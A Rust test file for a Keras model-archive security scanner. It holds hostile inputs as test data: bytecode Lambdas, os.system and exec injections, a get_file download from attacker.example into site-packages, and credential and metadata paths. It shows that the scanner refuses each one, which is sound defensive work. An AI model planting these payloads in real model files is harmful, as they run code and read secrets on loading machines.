//! Tests of the scanner over the benign fixtures (written by Keras 3.15.1,
//! see `tests/fixtures/keras/make_fixtures.py`) and over hostile inputs
//! built in the tests from raw bytes and JSON, one per attack technique.

use std::collections::BTreeMap;
use std::path::PathBuf;

use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;
use crate::finding::Location;

// ---------------------------------------------------------------------------
// Test-only archive access.

/// `KerasArchive` over an in-memory map (test only).
#[derive(Clone, Default)]
pub(super) struct MapArchive(pub BTreeMap<String, Vec<u8>>);

impl KerasArchive for MapArchive {
    fn members(&self) -> Vec<(String, u64)> {
        self.0
            .iter()
            .map(|(k, v)| (k.clone(), v.len() as u64))
            .collect()
    }

    fn read_member(&mut self, name: &str, max: u64) -> crate::Result<Vec<u8>> {
        let bytes = self.0.get(name).cloned().unwrap();
        assert!(
            bytes.len() as u64 <= max,
            "scanner asked for {name} above its limit"
        );
        Ok(bytes)
    }
}

fn fixture_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/keras")
}

fn u16_at(b: &[u8], at: usize) -> usize {
    usize::from(u16::from_le_bytes([b[at], b[at + 1]]))
}

fn u32_at(b: &[u8], at: usize) -> usize {
    u32::from_le_bytes([b[at], b[at + 1], b[at + 2], b[at + 3]]) as usize
}

/// Reads the members of a stored (uncompressed) ZIP through its central
/// directory: the fixtures are written that way by Keras. Test only; the
/// production reader is `crate::zip`.
fn unzip_stored(zip: &[u8]) -> BTreeMap<String, Vec<u8>> {
    let eocd = (0..zip.len() - 21)
        .rev()
        .find(|&i| zip[i..i + 4] == *b"PK\x05\x06")
        .unwrap();
    let count = u16_at(zip, eocd + 10);
    let mut at = u32_at(zip, eocd + 16);
    let mut out = BTreeMap::new();
    for _ in 0..count {
        assert_eq!(&zip[at..at + 4], b"PK\x01\x02");
        assert_eq!(u16_at(zip, at + 10), 0, "fixture members are stored");
        let size = u32_at(zip, at + 20);
        let (name_len, extra_len, comment_len) = (
            u16_at(zip, at + 28),
            u16_at(zip, at + 30),
            u16_at(zip, at + 32),
        );
        let local = u32_at(zip, at + 42);
        let name = String::from_utf8(zip[at + 46..at + 46 + name_len].to_vec()).unwrap();
        let data = local + 30 + u16_at(zip, local + 26) + u16_at(zip, local + 28);
        out.insert(name, zip[data..data + size].to_vec());
        at += 46 + name_len + extra_len + comment_len;
    }
    out
}

fn fixture(name: &str) -> MapArchive {
    let zip = std::fs::read(fixture_dir().join(name)).unwrap();
    MapArchive(unzip_stored(&zip))
}

const FIXTURES: &[&str] = &[
    "ok_mlp_sequential.keras",
    "ok_cnn_functional.keras",
    "ok_text_lstm.keras",
    "ok_rnn_functional.keras",
    "ok_normalization.keras",
    "ok_string_lookup.keras",
    "ok_nested_functional.keras",
    "ok_mixed_precision.keras",
    "ok_multi_io.keras",
    "ok_uncompiled.keras",
];

fn limits() -> KerasLimits {
    KerasLimits::for_testing()
}

fn codes_of(findings: &[Finding]) -> Vec<&'static str> {
    findings.iter().map(|f| f.code).collect()
}

fn pointer_of(f: &Finding) -> &str {
    match &f.location {
        Location::Pointer { pointer, .. } => pointer,
        other => panic!("not a pointer: {other:?}"),
    }
}

fn hdf5_path_of(f: &Finding) -> &str {
    match &f.location {
        Location::Hdf5 { path, .. } => path,
        other => panic!("not an HDF5 location: {other:?}"),
    }
}

// ---------------------------------------------------------------------------
// Benign models.

#[test]
fn every_benign_fixture_is_accepted_with_kerass_own_parameter_count() {
    let expected: Value =
        serde_json::from_slice(&std::fs::read(fixture_dir().join("expected.json")).unwrap())
            .unwrap();
    for name in FIXTURES {
        let mut archive = fixture(name);
        let verdict = scan_keras_archive(&mut archive, &limits());
        assert!(verdict.accepted, "{name}: {:#?}", verdict.findings);
        assert_eq!(verdict.allowlist_version, ALLOWLIST_VERSION);
        assert_eq!(verdict.keras_version.as_deref(), Some("3.15.1"), "{name}");
        let want = &expected[*name];
        // The parameter count is Keras's own `model.count_params()`.
        assert_eq!(
            verdict.param_count,
            want["count_params"].as_u64(),
            "{name}: {:#?}",
            verdict.model
        );
        // Every layer Keras lists is in the summary (ours also lists the
        // InputLayer of Sequential models, which Keras hides).
        let model = verdict.model.as_ref().unwrap();
        let ours: Vec<&str> = model.layers.iter().map(|l| l.name.as_str()).collect();
        for layer in want["layers"].as_array().unwrap() {
            assert!(
                ours.contains(&layer.as_str().unwrap()),
                "{name}: {layer} missing from {ours:?}"
            );
        }
        assert!(!model.input_shapes.is_empty(), "{name}");
    }
}

#[test]
fn parameter_counts_come_from_the_config_and_are_matched_by_the_weights() {
    for name in FIXTURES {
        let verdict = scan_keras_archive(&mut fixture(name), &limits());
        let want = if *name == "ok_string_lookup.keras" {
            // StringLookup's state is its vocabulary asset; its (empty)
            // weights are taken from the file.
            verdict::ParamCountSource::ConfigAndWeights
        } else {
            verdict::ParamCountSource::Config
        };
        assert_eq!(
            verdict.param_count_source,
            Some(want),
            "{name}: {:?}",
            verdict.layers_counted_from_weights
        );
    }
}

#[test]
fn the_cnn_summary_is_what_a_person_expects() {
    let verdict = scan_keras_archive(&mut fixture("ok_cnn_functional.keras"), &limits());
    let model = verdict.model.unwrap();
    assert_eq!(model.class_name, "Functional");
    assert_eq!(
        model.input_shapes,
        vec![vec![None, Some(12), Some(12), Some(3)]]
    );
    assert!(model.compiled);
    let conv = model.layers.iter().find(|l| l.name == "conv2d_1").unwrap();
    assert_eq!(conv.class_name, "Conv2D");
    assert_eq!(conv.units, Some(6));
    assert_eq!(conv.params, Some(3 * 3 * 4 * 6 + 6));
    assert_eq!(conv.weights_group.as_deref(), Some("/layers/conv2d_1"));
    let probs = model.layers.iter().find(|l| l.name == "probs").unwrap();
    // Keras names the group after the class, not the layer name.
    assert_eq!(probs.weights_group.as_deref(), Some("/layers/dense"));
    let bn = model
        .layers
        .iter()
        .find(|l| l.class_name == "BatchNormalization")
        .unwrap();
    assert_eq!(bn.params, Some(4 * 4));
    // The verdict serializes (the AIBoM embeds it).
    let text = serde_json::to_string(&scan_keras_archive(
        &mut fixture("ok_cnn_functional.keras"),
        &limits(),
    ))
    .unwrap();
    assert!(text.contains("\"allowlist_version\""));
}

#[test]
fn weights_in_the_newest_hdf5_format_are_read_too() {
    let bytes = std::fs::read(fixture_dir().join("ok_text_lstm_weights_latest.h5")).unwrap();
    let tree = parse_weights_structure(&bytes, "model.weights.h5", &limits()).unwrap();
    assert_eq!(tree.superblock_version, 3);
    let mut archive = fixture("ok_text_lstm.keras");
    archive.0.insert("model.weights.h5".into(), bytes);
    let verdict = scan_keras_archive(&mut archive, &limits());
    assert!(verdict.accepted, "{:#?}", verdict.findings);
    assert_eq!(verdict.weights.unwrap().superblock_version, 3);
    assert_eq!(verdict.param_count, Some(767));
    // More than 8 links in one group: h5py switches to dense link storage
    // (a fractal heap), which the walker refuses rather than parses.
    let bytes = std::fs::read(fixture_dir().join("fail_mlp_weights_latest_dense.h5")).unwrap();
    let e = parse_weights_structure(&bytes, "model.weights.h5", &limits()).unwrap_err();
    assert_eq!(e.code(), codes::H5_UNSUPPORTED_STRUCTURE);
    assert_eq!(hdf5_path_of(e.finding().unwrap()), "/optimizer/vars");
}

#[test]
fn the_weights_walk_sees_what_h5py_wrote() {
    let archive = fixture("ok_text_lstm.keras");
    let tree = parse_weights_structure(
        &archive.0["model.weights.h5"],
        "model.weights.h5",
        &limits(),
    )
    .unwrap();
    assert_eq!(tree.superblock_version, 0);
    let lstm = tree
        .datasets
        .iter()
        .find(|d| d.path == "/layers/lstm/cell/vars/1")
        .unwrap();
    assert_eq!(lstm.shape, vec![6, 24]);
    assert_eq!(lstm.dtype, H5Dtype::Float(32));
    assert_eq!(lstm.byte_size, 6 * 24 * 4);
    let vars = tree
        .groups
        .iter()
        .find(|g| g.path == "/layers/lstm/vars")
        .unwrap();
    assert_eq!(vars.name_attr.as_deref(), Some("lstm"));
    let iterations = tree
        .datasets
        .iter()
        .find(|d| d.path == "/optimizer/vars/0")
        .unwrap();
    assert_eq!(
        (iterations.dtype, iterations.shape.len()),
        (H5Dtype::Int(64), 0)
    );
}

// ---------------------------------------------------------------------------
// Hostile configs: each one is the benign MLP (or CNN) config with one
// technique applied, so everything else about the file is realistic.

fn config_of(name: &str) -> Value {
    serde_json::from_slice(&fixture(name).0["config.json"]).unwrap()
}

fn scan_value(config: &Value) -> ConfigScan {
    scan_config(&serde_json::to_vec(config).unwrap(), &limits()).unwrap()
}

/// The scan's findings with the given code.
fn with_code<'a>(scan: &'a ConfigScan, code: &str) -> Vec<&'a Finding> {
    scan.findings.iter().filter(|f| f.code == code).collect()
}

fn layer(module: &str, class_name: &str, config: Value) -> Value {
    json!({"module": module, "class_name": class_name, "config": config, "registered_name": null})
}

/// The MLP with `new_layer` inserted as its second layer.
fn mlp_with_layer(new_layer: Value) -> Value {
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"]
        .as_array_mut()
        .unwrap()
        .insert(1, new_layer);
    config
}

#[test]
fn lambda_with_bytecode_is_refused() {
    // CVE-2024-3660: marshalled bytecode in a Lambda's `function`.
    let lambda = layer(
        "keras.layers",
        "Lambda",
        json!({
            "name": "lambda",
            "function": {"class_name": "__lambda__", "config": {
                "code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wwAAACXAGQBZAKmAQAAqwEAAAAAAAAAAFMAKQNO",
                "defaults": null, "closure": null}},
            "arguments": {}
        }),
    );
    let scan = scan_value(&mlp_with_layer(lambda));
    let lambda_findings = with_code(&scan, codes::LAMBDA);
    assert_eq!(pointer_of(lambda_findings[0]), "/config/layers/1");
    let fv = with_code(&scan, codes::FUNCTION_VALUE);
    let pointers: Vec<&str> = fv.iter().map(|f| pointer_of(f)).collect();
    assert!(
        pointers.contains(&"/config/layers/1/config/function"),
        "{pointers:?}"
    );
    assert!(!scan.accepted());
}

#[test]
fn a_bare_python_lambda_value_is_refused_anywhere() {
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"][1]["config"]["activation"] =
        json!({"class_name": "__lambda__", "config": {"value": ["x", null, null]}});
    let scan = scan_value(&config);
    assert_eq!(codes_of(&scan.findings), vec![codes::LAMBDA]);
    assert_eq!(
        pointer_of(&scan.findings[0]),
        "/config/layers/1/config/activation"
    );
}

#[test]
fn function_typed_values_are_refused() {
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"][1]["config"]["activation"] = json!({"class_name": "__function__", "config": {"module": "os", "function_name": "system"}});
    let scan = scan_value(&config);
    assert_eq!(codes_of(&scan.findings), vec![codes::FUNCTION_VALUE]);
    assert_eq!(
        pointer_of(&scan.findings[0]),
        "/config/layers/1/config/activation"
    );
    // Keras 2's Lambda format: `function` as a (bytecode, defaults, closure) triple.
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"][2]["config"]["function"] = json!(["4wEAAAAAAAAA", null, null]);
    config["config"]["layers"][2]["config"]["function_type"] = json!("lambda");
    let scan = scan_value(&config);
    assert_eq!(codes_of(&scan.findings), vec![codes::FUNCTION_VALUE; 2]);
}

#[test]
fn module_class_name_injection_is_refused() {
    // CVE-2025-1550: `module`/`class_name` naming any Python callable.
    for (module, class_name) in [
        ("builtins", "exec"),
        ("os", "system"),
        ("subprocess", "Popen"),
        (
            "keras.src.backend.common.global_state",
            "set_global_attribute",
        ),
        ("keras.src.layers.core.dense", "Dense"),
        ("keras_hub.layers", "Anything"),
    ] {
        let evil = json!({"module": module, "class_name": class_name,
            "config": {"name": "x", "source": "import os; os.system('id')"}, "registered_name": null});
        let scan = scan_value(&mlp_with_layer(evil.clone()));
        let f = with_code(&scan, codes::DISALLOWED_MODULE);
        assert_eq!(f.len(), 1, "{module}: {:?}", scan.findings);
        assert_eq!(pointer_of(f[0]), "/config/layers/1/module");
        // The same injection in a non-layer position (an initializer).
        let mut config = config_of("ok_mlp_sequential.keras");
        config["config"]["layers"][1]["config"]["kernel_initializer"] = evil;
        let scan = scan_value(&config);
        assert_eq!(
            codes_of(&scan.findings),
            vec![codes::DISALLOWED_MODULE],
            "{module}"
        );
        assert_eq!(
            pointer_of(&scan.findings[0]),
            "/config/layers/1/config/kernel_initializer/module"
        );
    }
}

#[test]
fn get_file_hidden_in_the_config_is_refused() {
    // CVE-2025-8747: a Lambda whose function is `keras.utils.get_file`,
    // downloading into site-packages.
    let get_file = json!({"module": "keras.utils", "class_name": "function",
        "config": "get_file", "registered_name": null});
    let lambda = layer(
        "keras.layers",
        "Lambda",
        json!({"name": "fetch", "function": get_file,
            "arguments": {"fname": "x.py", "origin": "https://attacker.example/x.py",
                "cache_dir": "/usr/lib/python3/dist-packages"}}),
    );
    let scan = scan_value(&mlp_with_layer(lambda));
    assert!(codes_of(&scan.findings).contains(&codes::LAMBDA));
    assert!(codes_of(&scan.findings).contains(&codes::FUNCTION_VALUE));
    // Without the Lambda: the same function as an activation.
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"][1]["config"]["activation"] = get_file;
    let scan = scan_value(&config);
    assert_eq!(codes_of(&scan.findings), vec![codes::DISALLOWED_FUNCTION]);
    assert_eq!(
        pointer_of(&scan.findings[0]),
        "/config/layers/1/config/activation"
    );
    // And as a plain string activation name.
    config["config"]["layers"][1]["config"]["activation"] = json!("get_file");
    assert_eq!(
        codes_of(&scan_value(&config).findings),
        vec![codes::DISALLOWED_FUNCTION]
    );
}

#[test]
fn safe_mode_toggles_hidden_in_the_config_are_refused() {
    // CVE-2025-9906: call `keras.config.enable_unsafe_deserialization`
    // from inside the config, then deserialize a bytecode Lambda.
    let toggle = json!({"module": "keras.config", "class_name": "function",
        "config": "enable_unsafe_deserialization", "registered_name": null});
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"][1]["config"]["activation"] = toggle;
    let scan = scan_value(&config);
    assert_eq!(codes_of(&scan.findings), vec![codes::DISALLOWED_FUNCTION]);
    // As a class-shaped object in a layer position.
    let scan = scan_value(&mlp_with_layer(json!({"module": "keras.config",
        "class_name": "enable_unsafe_deserialization", "config": {}, "registered_name": null})));
    assert_eq!(codes_of(&scan.findings), vec![codes::DISALLOWED_MODULE]);
    // Keys that steer deserialization, wherever they are.
    for key in [
        "safe_mode",
        "custom_objects",
        "__passive_serialization__",
        "module_objects",
    ] {
        let mut config = config_of("ok_mlp_sequential.keras");
        config["config"]["layers"][1]["config"][key] = json!(false);
        let scan = scan_value(&config);
        assert_eq!(
            codes_of(&scan.findings),
            vec![codes::DESERIALIZATION_CONTROL_KEY],
            "{key}"
        );
        assert_eq!(
            pointer_of(&scan.findings[0]),
            format!("/config/layers/1/config/{key}")
        );
    }
    let mut config = config_of("ok_mlp_sequential.keras");
    config["safe_mode"] = json!(false);
    assert_eq!(
        codes_of(&scan_value(&config).findings),
        vec![codes::DESERIALIZATION_CONTROL_KEY]
    );
}

#[test]
fn lookup_layers_reading_local_files_are_refused() {
    // CVE-2025-12058: a string vocabulary is read with tf.io.gfile.
    for vocabulary in [
        "/etc/passwd",
        "gs://bucket/vocab.txt",
        "vocab.txt",
        "../../home/u/.ssh/id_rsa",
    ] {
        let lookup = layer(
            "keras.layers",
            "StringLookup",
            json!({"name": "lookup", "vocabulary": vocabulary, "idf_weights": null,
                "output_mode": "int", "num_oov_indices": 1}),
        );
        let scan = scan_value(&mlp_with_layer(lookup));
        assert_eq!(
            codes_of(&scan.findings),
            vec![codes::FILE_PATH_IN_CONFIG],
            "{vocabulary}"
        );
        assert_eq!(
            pointer_of(&scan.findings[0]),
            "/config/layers/1/config/vocabulary"
        );
    }
    // An inline vocabulary is fine.
    let inline = layer(
        "keras.layers",
        "StringLookup",
        json!({"name": "lookup", "vocabulary": ["a", "b"], "idf_weights": null, "output_mode": "int"}),
    );
    assert!(scan_value(&mlp_with_layer(inline)).accepted());
}

#[test]
fn file_paths_and_urls_anywhere_in_layer_configs_are_refused() {
    for s in [
        "/etc/shadow",
        "./model",
        "../x",
        "~/.keras/keras.json",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data",
        "https://attacker.example/a",
        "gs://b/o",
        "s3://b/o",
        "hdfs://namenode/x",
        "C:\\Windows\\win.ini",
        "c:/x",
        "\\\\server\\share\\x",
        "a/../../b",
    ] {
        let mut config = config_of("ok_mlp_sequential.keras");
        config["config"]["layers"][2]["config"]["noise_shape"] = json!([s]);
        let scan = scan_value(&config);
        assert_eq!(
            codes_of(&scan.findings),
            vec![codes::FILE_PATH_IN_CONFIG],
            "{s}"
        );
        assert_eq!(
            pointer_of(&scan.findings[0]),
            "/config/layers/2/config/noise_shape/0"
        );
    }
    for s in [
        "relu",
        "channels_last",
        "same",
        "dense_1",
        "float32",
        "bilinear",
        "[UNK]",
        "a:b",
    ] {
        assert!(!config::looks_like_path_or_url(s), "{s}");
    }
    // A layer name used as a path by the asset store (CVE-2026-12479).
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"][1]["config"]["name"] = json!("../../../tmp/x");
    assert!(codes_of(&scan_value(&config).findings).contains(&codes::FILE_PATH_IN_CONFIG));
}

#[test]
fn tfsm_layer_is_refused() {
    // CVE-2026-1462: TFSMLayer loads an attacker SavedModel whose graph runs.
    let tfsm = layer(
        "keras.layers",
        "TFSMLayer",
        json!({"name": "tfsm", "filepath": "/tmp/evil_savedmodel",
            "call_endpoint": "serve", "call_training_endpoint": null}),
    );
    let scan = scan_value(&mlp_with_layer(tfsm));
    let codes = codes_of(&scan.findings);
    assert!(codes.contains(&codes::TFSM_LAYER), "{codes:?}");
    assert!(codes.contains(&codes::FILE_PATH_IN_CONFIG), "{codes:?}");
    assert_eq!(
        pointer_of(with_code(&scan, codes::TFSM_LAYER)[0]),
        "/config/layers/1"
    );
    // The module Keras writes for it, too.
    let tfsm = layer(
        "keras.src.export.tfsm_layer",
        "TFSMLayer",
        json!({"name": "t"}),
    );
    assert!(codes_of(&scan_value(&mlp_with_layer(tfsm)).findings).contains(&codes::TFSM_LAYER));
}

#[test]
fn custom_and_registered_objects_are_refused() {
    // A registered custom class: `registered_name` wins over the module.
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"][1]["registered_name"] = json!("mypkg>Dense");
    let scan = scan_value(&config);
    assert_eq!(
        codes_of(&scan.findings),
        vec![codes::REGISTERED_NAME_MISMATCH]
    );
    assert_eq!(
        pointer_of(&scan.findings[0]),
        "/config/layers/1/registered_name"
    );
    // A class Keras does not have, or does not allow here.
    for class_name in [
        "MyLayer",
        "TorchModuleWrapper",
        "JaxLayer",
        "TextVectorization",
        "Bidirectional",
    ] {
        let scan = scan_value(&mlp_with_layer(layer(
            "keras.layers",
            class_name,
            json!({"name": "c"}),
        )));
        assert_eq!(
            codes_of(&scan.findings),
            vec![codes::DISALLOWED_LAYER],
            "{class_name}"
        );
    }
    // A custom loss.
    let mut config = config_of("ok_mlp_sequential.keras");
    config["compile_config"]["loss"] = json!({"module": "mypkg.losses", "class_name": "MyLoss",
        "config": {}, "registered_name": "mypkg>MyLoss"});
    assert_eq!(
        codes_of(&scan_value(&config).findings),
        vec![codes::DISALLOWED_MODULE]
    );
    // A legit optimizer where an activation belongs.
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"][1]["config"]["activation"] =
        config["compile_config"]["optimizer"].clone();
    assert_eq!(
        codes_of(&scan_value(&config).findings),
        vec![codes::DISALLOWED_OBJECT]
    );
    // Special forms that import modules.
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"][1]["config"]["units"] = json!({"class_name": "__typespec__",
        "spec_name": "TensorSpec", "module": "os", "config": [], "registered_name": null});
    let codes = codes_of(&scan_value(&config).findings);
    assert!(codes.contains(&codes::DISALLOWED_OBJECT), "{codes:?}");
}

#[test]
fn models_smuggled_into_layer_configs_are_refused_and_walked() {
    // A Sequential with a Lambda inside, hidden in a Dense's config.
    let inner = json!({"module": "keras", "class_name": "Sequential", "registered_name": null,
        "config": {"name": "hidden", "layers": [layer("keras.layers", "Lambda", json!({"name": "l"}))]}});
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"][1]["config"]["layers"] = json!([inner]);
    let scan = scan_value(&config);
    assert_eq!(
        codes_of(&scan.findings),
        vec![codes::DISALLOWED_OBJECT, codes::LAMBDA]
    );
    assert_eq!(
        pointer_of(&scan.findings[1]),
        "/config/layers/1/config/layers/0/config/layers/0"
    );
}

#[test]
fn a_layer_without_module_is_refused() {
    // No `module`: Functional models use the legacy Keras 2 deserializer.
    let mut config = config_of("ok_cnn_functional.keras");
    config["config"]["layers"][3]
        .as_object_mut()
        .unwrap()
        .remove("module");
    let scan = scan_value(&config);
    assert_eq!(codes_of(&scan.findings), vec![codes::DISALLOWED_MODULE]);
    assert_eq!(pointer_of(&scan.findings[0]), "/config/layers/3");
}

#[test]
fn shared_object_ids_cannot_swap_classes() {
    let mut config = config_of("ok_mlp_sequential.keras");
    // The model's dtype policy is shared (id X); make a later use of X an
    // initializer-shaped object in a dtype position.
    let id = config["config"]["dtype"]["shared_object_id"].clone();
    config["config"]["layers"][1]["config"]["kernel_initializer"]["shared_object_id"] = id;
    let scan = scan_value(&config);
    assert_eq!(
        codes_of(&scan.findings),
        vec![codes::SHARED_OBJECT_MISMATCH]
    );
}

#[test]
fn layer_calls_only_take_tensors_of_earlier_layers() {
    let mut config = config_of("ok_cnn_functional.keras");
    config["config"]["layers"][1]["inbound_nodes"][0]["args"][0] = json!("os.system('id')");
    let scan = scan_value(&config);
    assert_eq!(
        codes_of(&scan.findings),
        vec![codes::INVALID_CONFIG],
        "{:#?}",
        scan.findings
    );
    let mut config = config_of("ok_cnn_functional.keras");
    config["config"]["layers"][1]["inbound_nodes"][0]["args"][0]["config"]["keras_history"][0] =
        json!("nowhere");
    assert_eq!(
        codes_of(&scan_value(&config).findings),
        vec![codes::INVALID_CONFIG]
    );
    let mut config = config_of("ok_cnn_functional.keras");
    config["config"]["layers"][1]["inbound_nodes"] = json!([[["image", 0, 0, {}]]]);
    assert_eq!(
        codes_of(&scan_value(&config).findings),
        vec![codes::INVALID_CONFIG]
    );
}

#[test]
fn unknown_keys_and_strings_are_refused() {
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"][1]["extra"] = json!(1);
    assert_eq!(
        codes_of(&scan_value(&config).findings),
        vec![codes::UNEXPECTED_KEY]
    );
    let mut config = config_of("ok_mlp_sequential.keras");
    config["compile_config"]["loss"] = json!("exec");
    assert_eq!(
        codes_of(&scan_value(&config).findings),
        vec![codes::DISALLOWED_FUNCTION]
    );
    let mut config = config_of("ok_mlp_sequential.keras");
    config["compile_config"]["optimizer"] = json!("evil");
    assert_eq!(
        codes_of(&scan_value(&config).findings),
        vec![codes::DISALLOWED_OBJECT]
    );
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"][1]["config"]["dtype"] = json!("object");
    assert_eq!(
        codes_of(&scan_value(&config).findings),
        vec![codes::DISALLOWED_DTYPE]
    );
    let mut config = config_of("ok_mlp_sequential.keras");
    config["compile_config"]["jit_compile_hook"] = json!("x");
    assert_eq!(
        codes_of(&scan_value(&config).findings),
        vec![codes::UNEXPECTED_KEY]
    );
}

#[test]
fn every_violation_is_reported_not_just_the_first() {
    let mut config = mlp_with_layer(layer("builtins", "exec", json!({"name": "a"})));
    config["config"]["layers"][2]["config"]["activation"] = json!("get_file");
    config["config"]["layers"][3]["config"]["safe_mode"] = json!(false);
    let scan = scan_value(&config);
    assert_eq!(
        codes_of(&scan.findings),
        vec![
            codes::DISALLOWED_MODULE,
            codes::DISALLOWED_FUNCTION,
            codes::DESERIALIZATION_CONTROL_KEY
        ]
    );
    // In the archive verdict, as the CLI's --json prints them.
    let mut archive = fixture("ok_mlp_sequential.keras");
    archive
        .0
        .insert("config.json".into(), serde_json::to_vec(&config).unwrap());
    let verdict = serde_json::to_value(scan_keras_archive(&mut archive, &limits())).unwrap();
    assert_eq!(verdict["accepted"], false);
    let first = &verdict["findings"][0];
    assert_eq!(first["code"], "keras.disallowed_module");
    assert_eq!(first["location"]["kind"], "pointer");
    assert_eq!(first["location"]["member"], "config.json");
    assert_eq!(first["location"]["pointer"], "/config/layers/1/module");
}

#[test]
fn unparseable_configs_are_errors_with_a_position() {
    let e = scan_config(
        br#"{"class_name": "Sequential", "class_name": "Functional"}"#,
        &limits(),
    )
    .unwrap_err();
    assert_eq!(e.code(), codes::DUPLICATE_KEY);
    let deep = format!("{}{}", "[".repeat(100), "]".repeat(100));
    assert_eq!(
        scan_config(deep.as_bytes(), &limits()).unwrap_err().code(),
        codes::CONFIG_TOO_DEEP
    );
    let big = vec![b' '; 300 << 10];
    assert_eq!(
        scan_config(&big, &limits()).unwrap_err().code(),
        codes::CONFIG_TOO_LARGE
    );
    let e = scan_config(b"{\n  \"a\": nope}", &limits()).unwrap_err();
    assert_eq!(e.code(), codes::INVALID_JSON);
    assert!(matches!(
        e.finding().unwrap().location,
        Location::Document { line: Some(2), .. }
    ));
    let scan = scan_config(b"[1, 2]", &limits()).unwrap();
    assert_eq!(codes_of(&scan.findings), vec![codes::INVALID_CONFIG]);
}

// ---------------------------------------------------------------------------
// Hostile weights. A minimal HDF5 writer (superblock v2, v2 object headers
// with link messages, contiguous datasets) builds the structures h5py
// would write for a hostile file; a real h5py file is patched for the v0
// paths.

mod h5w {
    use super::super::hdf5::lookup3_for_tests as lookup3;

    /// One message of an object header: (type, body).
    pub type Msg = (u8, Vec<u8>);

    pub fn ohdr(msgs: &[Msg]) -> Vec<u8> {
        let mut body = Vec::new();
        for (kind, data) in msgs {
            body.push(*kind);
            body.extend_from_slice(&(data.len() as u16).to_le_bytes());
            body.push(0);
            body.extend_from_slice(data);
        }
        let mut out = b"OHDR".to_vec();
        out.push(2);
        out.push(0x02); // chunk size stored in 4 bytes
        out.extend_from_slice(&(body.len() as u32).to_le_bytes());
        out.extend_from_slice(&body);
        let sum = lookup3(&out);
        out.extend_from_slice(&sum.to_le_bytes());
        out
    }

    pub fn link_info() -> Msg {
        let mut b = vec![0, 0];
        b.extend_from_slice(&u64::MAX.to_le_bytes());
        b.extend_from_slice(&u64::MAX.to_le_bytes());
        (0x02, b)
    }

    pub fn group_info() -> Msg {
        (0x0A, vec![0, 0])
    }

    /// A link message: hard (type 0, target address), soft (1) or
    /// external (64) with `value` bytes.
    pub fn link(name: &str, link_type: u8, target: u64, value: &[u8]) -> Msg {
        let mut b = vec![1, 0x08]; // version, flags: link type present, 1-byte name length
        b.push(link_type);
        b.push(name.len() as u8);
        b.extend_from_slice(name.as_bytes());
        if link_type == 0 {
            b.extend_from_slice(&target.to_le_bytes());
        } else {
            b.extend_from_slice(&(value.len() as u16).to_le_bytes());
            b.extend_from_slice(value);
        }
        (0x06, b)
    }

    pub fn dataspace(dims: &[u64]) -> Msg {
        let mut b = vec![2, dims.len() as u8, 0, 1];
        for d in dims {
            b.extend_from_slice(&d.to_le_bytes());
        }
        (0x01, b)
    }

    pub fn float32() -> Msg {
        let mut b = vec![0x11, 0x20, 0x1f, 0x00];
        b.extend_from_slice(&4u32.to_le_bytes());
        b.extend_from_slice(&0u16.to_le_bytes());
        b.extend_from_slice(&32u16.to_le_bytes());
        b.extend_from_slice(&[23, 8, 0, 23]);
        b.extend_from_slice(&127u32.to_le_bytes());
        (0x03, b)
    }

    pub fn contiguous(addr: u64, size: u64) -> Msg {
        let mut b = vec![3, 1];
        b.extend_from_slice(&addr.to_le_bytes());
        b.extend_from_slice(&size.to_le_bytes());
        (0x08, b)
    }

    /// A file: superblock v2, then the given objects at consecutive
    /// addresses, then `data`. `build` receives the address each object
    /// will get and the address of `data`, and returns the objects (their
    /// sizes must not depend on the addresses); the first is the root.
    pub fn file(build: impl Fn(&[u64], u64) -> (Vec<Vec<u8>>, Vec<u8>)) -> Vec<u8> {
        const SB: u64 = 48;
        let (probe, _) = build(&[0; 16], 0);
        let mut addrs = Vec::new();
        let mut at = SB;
        for o in &probe {
            addrs.push(at);
            at += o.len() as u64;
        }
        let data_addr = at;
        let (objects, data) = build(&addrs, data_addr);
        let eof = data_addr + data.len() as u64;
        let mut out = b"\x89HDF\r\n\x1a\n".to_vec();
        out.extend_from_slice(&[2, 8, 8, 0]);
        out.extend_from_slice(&0u64.to_le_bytes());
        out.extend_from_slice(&u64::MAX.to_le_bytes());
        out.extend_from_slice(&eof.to_le_bytes());
        out.extend_from_slice(&addrs[0].to_le_bytes());
        let sum = lookup3(&out);
        out.extend_from_slice(&sum.to_le_bytes());
        assert_eq!(out.len() as u64, SB);
        for o in objects {
            out.extend_from_slice(&o);
        }
        out.extend_from_slice(&data);
        out
    }

    /// `/` holding `/layers/dense/vars/{0,1}` for a Dense(8 -> 3): the
    /// structure Keras writes, with `extra` messages added to the root and
    /// `patch` applied to the kernel dataset's messages.
    pub fn dense_file(root_extra: Vec<Msg>, kernel: impl Fn(u64) -> Vec<Msg>) -> Vec<u8> {
        dense_file_with_tail(root_extra, kernel, &[])
    }

    /// `dense_file` with `tail` bytes stored after the weights (at the
    /// data address + 108).
    pub fn dense_file_with_tail(
        root_extra: Vec<Msg>,
        kernel: impl Fn(u64) -> Vec<Msg>,
        tail: &[u8],
    ) -> Vec<u8> {
        file(|a, data| {
            let mut root = vec![link_info(), group_info(), link("layers", 0, a[1], &[])];
            root.extend(root_extra.iter().cloned());
            let objects = vec![
                ohdr(&root),
                ohdr(&[link_info(), group_info(), link("dense", 0, a[2], &[])]),
                ohdr(&[link_info(), group_info(), link("vars", 0, a[3], &[])]),
                ohdr(&[
                    link_info(),
                    group_info(),
                    link("0", 0, a[4], &[]),
                    link("1", 0, a[5], &[]),
                ]),
                ohdr(&kernel(data)),
                ohdr(&[dataspace(&[3]), float32(), contiguous(data + 96, 12)]),
            ];
